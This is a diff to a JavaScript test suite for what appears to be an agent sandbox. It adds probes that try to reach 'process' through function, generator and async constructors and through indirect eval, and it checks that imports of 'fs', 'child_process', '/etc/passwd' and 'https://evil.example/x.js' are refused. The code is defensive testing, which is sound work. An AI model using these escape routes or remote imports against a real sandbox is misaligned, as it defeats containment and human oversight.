@@ -51,7 +51,10 @@ describe("ambient authority", () => {
         const out = {};
         out.require = typeof require; out.process = typeof process; out.fetch = typeof fetch;
         out.viaFunction = (0, [].constructor.constructor)("return typeof process")();
-        out.viaAsync = (async function(){}).constructor("return typeof process")() instanceof Promise;
+        out.viaAsync = await (async function(){}).constructor("return typeof process")();
+        out.viaGenerator = (function*(){}).constructor("yield typeof process")().next().value;
+        out.viaAsyncGenerator = (await (async function*(){}).constructor("yield typeof process")().next()).value;
+        out.viaIndirectEval = (0, eval)("typeof process");
         for (const name of ["fs", "node:fs", "child_process", "./x.js", "/etc/passwd", "agentos:kernel/nope", "https://evil.example/x.js"]) {
           try { await import(name); out[name] = "IMPORTED"; } catch (e) { out[name] = String(e.message); }
         }
@@ -61,7 +64,7 @@ describe("ambient authority", () => {
     expect(report.require).toBe("undefined");
     expect(report.process).toBe("undefined");
     expect(report.fetch).toBe("undefined");
-    expect(report.viaFunction).toBe("undefined");
+    for (const route of ["viaFunction", "viaAsync", "viaGenerator", "viaAsyncGenerator", "viaIndirectEval"]) expect(report[route], route).toBe("undefined");
     for (const name of ["fs", "node:fs", "child_process", "./x.js", "/etc/passwd", "agentos:kernel/nope", "https://evil.example/x.js"]) {
       expect(report[name]).toMatch(/cannot import .*an agent can import only/);
     }
